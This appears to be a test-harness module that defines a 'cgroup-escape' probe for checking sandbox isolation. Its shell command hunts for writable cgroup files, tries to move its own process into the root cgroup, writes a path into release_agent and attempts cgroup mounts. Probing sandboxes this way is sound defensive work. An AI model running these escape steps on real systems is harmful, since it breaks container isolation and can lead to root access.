import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'cgroup-escape',
  class: 'kernel-surface',
  languages: ['any'],
  why: 'looks for a writable cgroup (cgroup.procs, tasks, release_agent, notify_on_release) to move out of its limits or run a program as root, and tries to mount a cgroup hierarchy of its own',
  commands: [
    String.raw`cat /proc/self/cgroup; find /sys/fs/cgroup -maxdepth 3 \( -name cgroup.procs -o -name tasks -o -name release_agent -o -name notify_on_release -o -name memory.max -o -name memory.limit_in_bytes \) -writable 2>/dev/null | head -n 10; for f in /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/memory/cgroup.procs /sys/fs/cgroup/pids/tasks; do echo $$ > "$f" 2>&1 | head -n 1; done; echo /tmp/x > /sys/fs/cgroup/release_agent 2>&1 | head -n 1; mkdir -p /tmp/cg && mount -t cgroup2 none /tmp/cg 2>&1 | head -n 1; mount -t cgroup -o memory none /tmp/cg 2>&1 | head -n 1; true`,
  ],
  parallelSafe: true,
  expected: ['graded'],
});
